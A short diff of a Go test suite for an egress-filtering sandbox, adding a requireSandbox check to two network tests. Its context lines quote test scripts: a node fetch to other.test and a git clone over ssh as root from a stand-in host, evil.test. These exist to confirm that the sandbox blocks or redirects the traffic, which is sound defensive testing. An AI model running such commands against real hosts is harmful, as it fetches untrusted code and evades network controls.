@@ -121,6 +121,7 @@ node -e 'fetch("http://other.test:%[2]d/").then(r => console.log("CASE nodedenie
 func TestTransparentEgressSNI(t *testing.T) {
 	t.Parallel()
 	namespacesOnly(t, "transparent egress (the landlock tier has no network namespace to redirect in)")
+	requireSandbox(t)
 	o := newOrigin(t)
 	f := transparentNet(t, asSelf, fmt.Sprintf("api.test:%d", o.port), fmt.Sprintf("preset:loopback:%d", o.port))
 	// 192.0.2.1 (TEST-NET-1) is never dialled: the name decides.
@@ -236,6 +237,7 @@ git clone -q ssh://root@evil.test:%[2]d%[3]s cloned2 2>&1 | tail -1; test -d clo
 // to connect a socket from another namespace.
 func TestStdinSocketStaysOutside(t *testing.T) {
 	t.Parallel()
+	requireSandbox(t)
 	inetd, err := net.Listen("tcp4", "127.0.0.1:0")
 	if err != nil {
 		t.Fatal(err)
